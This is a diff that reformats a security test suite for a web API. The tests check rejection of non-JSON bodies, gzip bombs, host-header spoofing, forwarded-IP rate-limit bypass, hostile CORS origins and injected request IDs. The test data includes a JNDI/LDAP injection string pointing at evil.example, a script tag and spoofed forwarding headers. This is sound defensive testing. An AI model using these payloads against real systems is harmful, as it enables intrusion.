@@ -37,17 +37,36 @@ describe.each(withBody)('$method $path', (route) => {
     expect(code).toBeTypeOf('string')
   })
 
-  test.each(['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'text/html', 'application/xml', 'application/jsonp', 'xapplication/json', 'text/plain, application/json', ''])(
-    'takes nothing as %j, which another site could send without asking first',
-    async (type) => {
-      const response = await callApi(route.method, route.path, { token: ada.token, body: '{}', headers: { 'content-type': type } })
-      expect(await refusal(response)).toEqual({ status: 415, code: 'not_json' })
-    },
-  )
+  test.each([
+    'text/plain',
+    'application/x-www-form-urlencoded',
+    'multipart/form-data; boundary=x',
+    'text/html',
+    'application/xml',
+    'application/jsonp',
+    'xapplication/json',
+    'text/plain, application/json',
+    '',
+  ])('takes nothing as %j, which another site could send without asking first', async (type) => {
+    const response = await callApi(route.method, route.path, {
+      token: ada.token,
+      body: '{}',
+      headers: { 'content-type': type },
+    })
+    expect(await refusal(response)).toEqual({ status: 415, code: 'not_json' })
+  })
 
   test('reads no compressed body, however much would come out of it', async () => {
     const bomb = gzipSync(Buffer.alloc(50_000_000, 0x20))
-    const answers = await Promise.all(['gzip', 'deflate', 'br'].map((coding) => callApi(route.method, route.path, { token: ada.token, body: bomb, headers: { 'content-encoding': coding } }).then(refusal)))
+    const answers = await Promise.all(
+      ['gzip', 'deflate', 'br'].map((coding) =>
+        callApi(route.method, route.path, {
+          token: ada.token,
+          body: bomb,
+          headers: { 'content-encoding': coding },
+        }).then(refusal),
+      ),
+    )
     for (const { status } of answers) expect([400, 413, 415]).toContain(status)
   })
 
@@ -91,7 +110,11 @@ describe('addresses', () => {
     'http://127.0.0.1:1/functions/v1/api/admin/users',
     '*',
   ])('%s leads nowhere', async (path) => {
-    const variants: Record<string, string>[] = [{}, { apikey: target.publishableKey }, { host: 'localhost', 'x-original-url': '/api/health', 'x-rewrite-url': '/api/health' }]
+    const variants: Record<string, string>[] = [
+      {},
+      { apikey: target.publishableKey },
+      { host: 'localhost', 'x-original-url': '/api/health', 'x-rewrite-url': '/api/health' },
+    ]
     for (const headers of variants) {
       const { status, body } = await rawRequest(path, { headers })
       expect(status).toBeGreaterThanOrEqual(400)
@@ -105,20 +128,35 @@ describe('addresses', () => {
     const answers: number[] = []
     for (let n = 0; n < 6; n += 1) {
       const ip = `203.0.113.${n}`
-      const response = await callApi('POST', '/api/auth/forgot', { body: { email }, headers: { 'x-forwarded-for': ip, 'cf-connecting-ip': ip, 'x-real-ip': ip, forwarded: `for=${ip}` } })
+      const response = await callApi('POST', '/api/auth/forgot', {
+        body: { email },
+        headers: { 'x-forwarded-for': ip, 'cf-connecting-ip': ip, 'x-real-ip': ip, forwarded: `for=${ip}` },
+      })
       answers.push(response.status)
     }
     expect(answers).toEqual([200, 200, 200, 200, 200, 429])
   })
 
-  test.each(['evil.example', 'evil.example:443', '127.0.0.1.evil.example', '[::1]'])('a request for the host %s gets nothing of that host', async (host) => {
-    const { body, headers } = await rawRequest('/functions/v1/api/health', { headers: { host, 'x-forwarded-host': host } })
-    expect(body + JSON.stringify(headers)).not.toContain('evil.example')
-  })
+  test.each(['evil.example', 'evil.example:443', '127.0.0.1.evil.example', '[::1]'])(
+    'a request for the host %s gets nothing of that host',
+    async (host) => {
+      const { body, headers } = await rawRequest('/functions/v1/api/health', {
+        headers: { host, 'x-forwarded-host': host },
+      })
+      expect(body + JSON.stringify(headers)).not.toContain('evil.example')
+    },
+  )
 })
 
 describe('pages of other sites', () => {
-  const preflight = (origin: string, path: string) => callApi('OPTIONS', path, { headers: { origin, 'access-control-request-method': 'POST', 'access-control-request-headers': 'authorization,content-type' } })
+  const preflight = (origin: string, path: string) =>
+    callApi('OPTIONS', path, {
+      headers: {
+        origin,
+        'access-control-request-method': 'POST',
+        'access-control-request-headers': 'authorization,content-type',
+      },
+    })
 
   test.each([
     'https://evil.example',
@@ -134,7 +172,10 @@ describe('pages of other sites', () => {
     'file://',
   ])('the origin %j may read nothing', async (origin) => {
     for (const path of ['/api/health', '/api/user/info', '/api/admin/users']) {
-      for (const response of [await preflight(origin, path), await callApi('GET', path, { headers: { origin }, token: ada.token })]) {
+      for (const response of [
+        await preflight(origin, path),
+        await callApi('GET', path, { headers: { origin }, token: ada.token }),
+      ]) {
         await response.body?.cancel()
         expect(response.headers.get('access-control-allow-origin')).toBeNull()
         expect(response.headers.get('access-control-allow-credentials')).toBeNull()
@@ -143,7 +184,10 @@ describe('pages of other sites', () => {
   })
 
   test('the site’s own may, without cookies, and a refusal can be read as well', async () => {
-    for (const response of [await preflight(target.allowedOrigin, '/api/user/info'), await callApi('GET', '/api/user/info', { headers: { origin: target.allowedOrigin } })]) {
+    for (const response of [
+      await preflight(target.allowedOrigin, '/api/user/info'),
+      await callApi('GET', '/api/user/info', { headers: { origin: target.allowedOrigin } }),
+    ]) {
       await response.body?.cancel()
       expect(response.headers.get('access-control-allow-origin')).toBe(target.allowedOrigin)
       expect(response.headers.get('access-control-allow-credentials')).toBeNull()
@@ -170,10 +214,13 @@ describe('headers of an answer', () => {
     expect(headers.get('x-powered-by') ?? headers.get('server')).toBeNull()
   })
 
-  test.each(['a\tb', 'x'.repeat(65), '<script>', 'a b', '${jndi:ldap://evil.example}'])('a request id like %j is not taken over', async (id) => {
-    const { headers } = await callApi('GET', '/api/health', { headers: { 'x-request-id': id } })
-    expect(headers.get('x-request-id')).toMatch(/^[0-9a-f-]{36}$/)
-  })
+  test.each(['a\tb', 'x'.repeat(65), '<script>', 'a b', '${jndi:ldap://evil.example}'])(
+    'a request id like %j is not taken over',
+    async (id) => {
+      const { headers } = await callApi('GET', '/api/health', { headers: { 'x-request-id': id } })
+      expect(headers.get('x-request-id')).toMatch(/^[0-9a-f-]{36}$/)
+    },
+  )
 
   test('the mailbox page runs nothing, whatever an e-mail holds, and tells its links to nobody', async () => {
     const { headers } = await fetch(`${target.url}/__mailbox`)
